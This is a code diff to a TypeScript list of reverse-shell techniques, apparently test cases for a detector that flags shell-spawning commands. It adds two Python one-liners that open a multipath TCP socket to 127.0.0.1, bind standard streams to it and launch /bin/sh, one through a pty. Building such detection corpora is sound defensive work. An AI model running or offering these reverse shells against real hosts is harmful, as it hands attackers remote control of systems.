@@ -62,6 +62,21 @@ export const reverseShells: Technique[] = [
     { rules: ["interpreter-that-makes-a-terminal-for-a-shell"] },
   ),
   shell(
+    "python over multipath TCP",
+    "reverse-shell",
+    (to) =>
+      python(
+        `import socket,os;s=socket.socket(2,1,262);s.connect(("127.0.0.1",${to}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh","-i")`,
+      ),
+    { rules: ["interpreter-command-with-a-socket-and-a-shell"] },
+  ),
+  shell(
+    "python over multipath TCP with a terminal between",
+    "relayed-shell",
+    (to) => python(`import socket,pty;s=socket.socket(2,1,262);s.connect(("127.0.0.1",${to}));pty.spawn("/bin/sh")`),
+    { rules: ["interpreter-that-makes-a-terminal-for-a-shell"] },
+  ),
+  shell(
     "perl",
     "reverse-shell",
     (to) =>
